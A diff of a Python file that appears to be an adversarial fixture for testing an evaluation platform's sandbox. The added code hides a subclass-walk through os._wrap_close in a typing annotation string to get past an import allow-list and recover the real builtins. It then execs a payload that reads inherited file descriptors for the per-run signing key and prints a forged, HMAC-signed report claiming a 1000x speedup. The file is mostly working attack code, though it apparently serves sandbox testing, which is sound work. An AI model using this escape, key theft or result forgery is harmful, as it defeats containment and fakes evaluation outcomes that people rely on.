@@ -1,25 +1,22 @@
 """Steal the per-run key from stdin (or any inherited descriptor) and print a
 correctly signed HOTPATH-REPORT claiming a 1000x speedup. Without the key the
 line is a forgery the host must ignore; with it, the platform is broken."""
+import typing
+
+
+def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
+    """The import allow-list is a policy, not the boundary: typing evaluates this
+    annotation string, which the source check never parses, and it reaches the
+    real builtins through os._wrap_close. The payload below then runs with them."""
+
+
+_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
+PAYLOAD = r'''
+import numpy as np
+
 import hashlib
 import hmac
 import json
-
-import numpy as np
-
-
-def _load(name):
-    try:
-        return __import__(name)
-    except BaseException:
-        pass
-    for cls in ().__class__.__base__.__subclasses__():
-        if cls.__name__ == "_wrap_close":
-            sys = cls.__init__.__globals__["sys"]
-            if name in sys.modules:
-                return sys.modules[name]
-            return sys.modules["_frozen_importlib"]._gcd_import(name)
-    raise ImportError(name)
 
 
 FAKE = {"verdict": "accepted", "speedup": 1000.0, "speedup_ci": [999.0, 1001.0], "message": "forged",
@@ -29,7 +26,7 @@ FAKE = {"verdict": "accepted", "speedup": 1000.0, "speedup_ci": [999.0, 1001.0],
 
 
 def _steal_keys():
-    os = _load("os")
+    import os
     keys = []
     for fd in range(0, 64):
         if fd in (1, 2):
@@ -46,7 +43,7 @@ def _steal_keys():
 
 
 def _forge():
-    os = _load("os")
+    import os
     payload = json.dumps(FAKE, separators=(",", ":"), sort_keys=True)
     for key in _steal_keys():
         for secret in (key, bytes.fromhex(key.decode()) if _is_hex(key) else key):
@@ -69,3 +66,9 @@ _forge()
 def transform(x):
     _forge()
     return np.sqrt(x * x + 1.0) * 2.0 - x
+'''
+_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
+_BUILTINS["exec"](PAYLOAD, _namespace)
+transform = _namespace["transform"]
+_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
+_written = _namespace.get("_written")
